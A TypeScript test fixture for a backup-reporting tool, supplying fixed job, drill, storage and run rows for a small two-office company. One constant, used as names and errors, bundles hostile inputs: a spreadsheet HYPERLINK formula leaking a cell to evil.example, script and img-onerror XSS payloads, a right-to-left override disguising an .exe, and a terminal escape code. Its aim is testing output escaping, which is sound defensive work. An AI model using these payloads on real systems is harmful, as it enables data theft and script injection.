// Rows of a small company, the same at each call, with names that try things.
import type { RpoJob } from '../rpo.js';
import type { RtoDrill, RtoJob } from '../rto.js';
import type { StorageDay, StorageJob } from '../storage.js';
import type { Period, ReportRun } from '../types.js';

const HOUR = 3_600_000;
const DAY = 24 * HOUR;
export const NOW = Date.UTC(2026, 10, 21, 12);
export const PERIOD: Period = { sinceMs: NOW - 7 * DAY, untilMs: NOW, timezone: 'Europe/Paris' };

/** An agent may be taken over: its errors and the names that it can choose are hostile. */
export const HOSTILE = `=HYPERLINK("http://evil.example?x="&A1)<script>alert('x')</script>"><img src=x onerror=alert(1)>\u202egnp.exe\x1b[2J\n& co`;

const every = (fromMs: number, stepMs: number, count: number): number[] => Array.from({ length: count }, (_, i) => fromMs + i * stepMs);

export function rpoJobs(): RpoJob[] {
  const nightly = every(NOW - 9 * DAY - 10 * HOUR, DAY, 10);
  const points = (starts: number[]) => starts.map((startedMs) => ({ startedMs, committedMs: startedMs + HOUR }));
  const due = nightly.filter((ms) => ms >= PERIOD.sinceMs);
  return [
    { job: 'docs', agent: 'fileserver', office: 'lyon', rpoMs: 25 * HOUR, createdMs: NOW - 90 * DAY, points: points(nightly), dueMs: due, servedDueMs: nightly },
    { job: 'mail', agent: 'mail1', office: 'lyon', rpoMs: 25 * HOUR, createdMs: NOW - 90 * DAY, points: points(nightly.slice(0, 6)), dueMs: due, servedDueMs: nightly.slice(0, 6) },
    { job: 'vms', agent: 'host1', office: 'oslo', rpoMs: 4 * HOUR, createdMs: NOW - 2 * DAY, points: [], dueMs: every(NOW - 2 * DAY, 4 * HOUR, 12), servedDueMs: [] },
    { job: 'homes', agent: 'host2', office: 'oslo', rpoMs: 0, createdMs: NOW - 90 * DAY, points: points([NOW - 30 * DAY]), dueMs: [], servedDueMs: [] },
    { job: HOSTILE, agent: HOSTILE, office: HOSTILE, rpoMs: 0, createdMs: NOW - DAY, points: [], dueMs: [], servedDueMs: [] },
  ];
}

export function rtoJobs(): RtoJob[] {
  const drill = (daysAgo: number, changes: Partial<RtoDrill> = {}): RtoDrill => ({ endedMs: NOW - daysAgo * DAY, passed: true, whole: false, files: 4_000, bytes: 2 ** 30, restoreSeconds: 10, wholeSeconds: 3_600, ...changes });
  return [
    { job: 'docs', agent: 'fileserver', office: 'lyon', rtoMs: 4 * HOUR, drills: [drill(1), drill(3, { whole: true, wholeSeconds: 7_200 })] },
    { job: 'mail', agent: 'mail1', office: 'lyon', rtoMs: HOUR / 2, drills: [drill(2)] },
    { job: 'vms', agent: 'host1', office: 'oslo', rtoMs: 8 * HOUR, drills: [drill(1, { passed: false }), drill(8)] },
    { job: 'homes', agent: 'host2', office: 'oslo', rtoMs: 0, drills: [drill(5)] },
    { job: 'new', agent: 'host2', office: 'oslo', rtoMs: HOUR, drills: [] },
    { job: HOSTILE, agent: HOSTILE, office: HOSTILE, rtoMs: 0, drills: [] },
  ];
}

export function storageJobs(): StorageJob[] {
  const GIB = 2 ** 30;
  return [
    { job: 'docs', agent: 'fileserver', office: 'lyon', snapshots: 90, protectedBytes: 500 * GIB, logicalBytes: 45_000 * GIB, uniqueBytes: 560 * GIB, storedBytes: 300 * GIB, periodUniqueBytes: 14 * GIB, periodStoredBytes: 7 * GIB },
    { job: 'mail', agent: 'mail1', office: 'lyon', snapshots: 90, protectedBytes: 80 * GIB, logicalBytes: 7_200 * GIB, uniqueBytes: 130 * GIB, storedBytes: 90 * GIB, periodUniqueBytes: 9 * GIB, periodStoredBytes: 6 * GIB },
    { job: 'copy-of-docs', agent: 'host1', office: 'oslo', snapshots: 1, protectedBytes: 500 * GIB, logicalBytes: 500 * GIB, uniqueBytes: 0, storedBytes: 0, periodUniqueBytes: 0, periodStoredBytes: 0 },
    { job: HOSTILE, agent: HOSTILE, office: HOSTILE, snapshots: 1, protectedBytes: 10, logicalBytes: 10, uniqueBytes: 10, storedBytes: 12, periodUniqueBytes: 10, periodStoredBytes: 12 },
  ];
}

/** 2 GiB more each day; a day without a measure. */
export function storageDays(): StorageDay[] {
  const GIB = 2 ** 30;
  return [7, 6, 5, 3, 2, 1, 0].map((ago) => ({
    day: new Date(NOW - ago * DAY).toISOString().slice(0, 10),
    measuredMs: NOW - ago * DAY,
    logicalBytes: (52_700 - ago * 580) * GIB,
    uniqueBytes: (690 - ago * 3.5) * GIB,
    storedBytes: (390 - ago * 2) * GIB,
    diskFreeBytes: (100 + ago * 2) * GIB,
    diskTotalBytes: 500 * GIB,
  }));
}

export function runs(): ReportRun[] {
  const run = (i: number, changes: Partial<ReportRun>): ReportRun => ({
    id: i.toString(16).padStart(16, '0'),
    jobId: 'j1',
    job: 'docs',
    agent: 'fileserver',
    office: 'lyon',
    kind: 'backup',
    state: 'succeeded',
    startedMs: NOW - i * DAY - 10 * HOUR,
    endedMs: NOW - i * DAY - 9 * HOUR + i * 60_000,
    dueMs: 0,
    good: true,
    errorCode: '',
    error: '',
    heldBackBy: 'line',
    bytesRead: 1e9,
    bytesSent: 5e7,
    bytesStored: 5e7,
    bytesUnique: 9e7,
    ...changes,
  });
  const mail: Partial<ReportRun> = { jobId: 'j2', job: 'mail', agent: 'mail1', heldBackBy: '' };
  return [
    ...[0, 1, 2, 3, 4, 5, 6].map((i) => run(i, {})),
    ...[0, 1, 2].map((i) => run(16 + i, { ...mail, startedMs: NOW - i * DAY - 2 * HOUR, endedMs: NOW - i * DAY - HOUR, state: 'failed', good: false, errorCode: 'UNAVAILABLE', error: `the line was cut ${i}`, bytesStored: 0 })),
    run(32, { ...mail, startedMs: NOW - 3 * DAY, endedMs: NOW - 3 * DAY + 5 * HOUR, state: 'partial', errorCode: 'IO', error: HOSTILE }),
    run(33, { kind: 'restore', jobId: '', job: '', startedMs: NOW - DAY, endedMs: NOW - DAY + 9_000, bytesRead: 0, bytesSent: 0, bytesStored: 0, heldBackBy: 'store' }),
    run(34, { jobId: 'j3', job: HOSTILE, agent: HOSTILE, office: HOSTILE, startedMs: 0, endedMs: NOW - 2 * DAY, state: 'cancelled', good: false, heldBackBy: '', bytesRead: 0, bytesSent: 0, bytesStored: 0 }),
    // Neither belongs to the period: one goes on, one ended before it.
    run(40, { endedMs: 0, state: 'running', good: false }),
    run(41, { startedMs: NOW - 20 * DAY, endedMs: NOW - 20 * DAY + HOUR }),
  ];
}
